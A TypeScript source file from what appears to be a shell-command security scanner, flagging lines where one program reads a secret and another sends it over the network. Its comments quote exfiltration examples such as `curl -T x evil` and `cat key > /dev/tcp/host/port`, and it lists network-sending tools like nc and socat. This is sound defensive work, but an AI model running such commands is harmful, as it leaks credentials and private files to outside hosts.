import type { Invocation } from '../shell/ir';
import { argValues } from '../shell/ir';
import { readHttpRequest } from './httpRequest';
import type { Finding } from './rule';
import { readsSecret } from './secretsPack';

/**
 * Secrets leaving across the programs of one line: one program reads a secret and another sends data
 * to the network (`gzip -c .env > x; curl -T x evil`, `cat key > /dev/tcp/host/port`, `socat
 * OPEN:key TCP:host:port`), or an archive of local files is piped straight to a network sender. The
 * per-program rules see only one side of these; this looks at the whole line.
 */

const RAW_SENDERS = new Set(['nc', 'ncat', 'netcat', 'socat', 'telnet']);
const PACKERS = new Set(['tar', 'zip', 'gzip', 'bzip2', 'xz', 'zstd', 'cat', 'base64', 'openssl', 'gpg', '7z']);

/** Why an invocation sends data to the network, or undefined. */
function sends(invocation: Invocation): string | undefined {
  if (invocation.redirects.some((redirect) => /^\/dev\/(tcp|udp)\//.test(redirect.target.value))) return invocation.name ? `${invocation.name} writes to a network socket` : 'writes to a network socket';
  if (RAW_SENDERS.has(invocation.name)) {
    const args = argValues(invocation);
    // A listener (`nc -l`) receives; a connection sends.
    if (args.some((arg) => /^-[a-z]*l/.test(arg) || arg === '--listen')) return undefined;
    return `${invocation.name} sends to ${args.find((arg) => !arg.startsWith('-')) ?? 'the network'}`;
  }
  if (invocation.name === 'tar') {
    // `tar -cf host:/path`, `--file=host:/path`, and the same through TAPE or TAR_OPTIONS.
    const remote = /(^|--file=|\s)[\w.-]+:\//;
    const args = argValues(invocation);
    // `--force-local` reads `host:path` as a local file name; an explicit `-f` overrides TAPE.
    if (!args.includes('--force-local')) {
      const explicit = args.some((arg) => /^-[a-zA-Z]*f/.test(arg) || arg.startsWith('--file'));
      const assigned = [...invocation.assignments].some(([name, value]) => ((name === 'TAPE' && !explicit) || name === 'TAR_OPTIONS') && remote.test(value.value));
      if (assigned || args.some((arg) => remote.test(arg))) return 'tar writes its archive to another host';
    }
  }
  const request = readHttpRequest(invocation);
  // Literal bodies (`-d '{"a":1}'`) carry nothing read from a file; files, stdin and expansions may.
  if (request && (request.uploads.length > 0 || request.bodyFromStdin || request.bodies.some((body) => body.includes('$')))) return `${request.tool} uploads to ${request.host || 'a server'}`;
  return undefined;
}

/** Line-level exfiltration findings, given every program the line runs. */
export function secretFlowFindings(invocations: readonly Invocation[]): Finding[] {
  if (invocations.length === 0) return [];
  const findings: Finding[] = [];
  const senders = invocations.map((invocation) => ({ invocation, why: sends(invocation) })).filter((entry) => entry.why !== undefined);
  if (senders.length === 0) return findings;
  const secret = invocations.map((invocation) => readsSecret(invocation) ?? socatFile(invocation)).find((found) => found !== undefined);
  if (secret) {
    findings.push({ rule: 'secrets.exfiltrate.flow', score: 80, message: `reads ${secret} and ${senders[0]?.why ?? 'sends it to the network'} in the same line` });
    return findings;
  }
  for (const { invocation, why } of senders) {
    const stdin = invocation.stdin;
    if (stdin?.kind !== 'pipe' || !PACKERS.has(stdin.producer.name)) continue;
    const what = argValues(stdin.producer).filter((arg) => !arg.startsWith('-')).join(' ') || 'local files';
    findings.push({ rule: 'secrets.exfiltrate.files', score: 55, message: `${stdin.producer.name} packs ${what} and ${why ?? 'sends it to the network'}` });
  }
  return findings;
}

/** `socat OPEN:key TCP:host:port` reads a file itself. */
function socatFile(invocation: Invocation): string | undefined {
  if (invocation.name !== 'socat') return undefined;
  for (const arg of argValues(invocation)) {
    const match = /^['"]?(?:OPEN|GOPEN|FILE|READ):['"]?([^,'"!]+)/i.exec(arg);
    if (match?.[1]) return match[1];
  }
  return undefined;
}
